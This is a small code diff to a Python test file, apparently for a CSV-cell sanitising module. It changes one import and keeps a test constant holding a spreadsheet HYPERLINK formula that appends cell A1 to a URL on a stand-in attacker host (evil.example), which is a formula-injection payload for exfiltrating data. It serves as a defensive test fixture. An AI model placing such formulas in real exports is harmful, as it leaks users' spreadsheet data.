@@ -16,7 +16,7 @@ import pytest
 from sqlalchemy import text
 
 from app import csvcells
-from tests.figures import data as figures_data
+from tests.figures import helpers as figures_data
 from tests.patrols.helpers import DAY, WEST, make_worker, store, walk
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
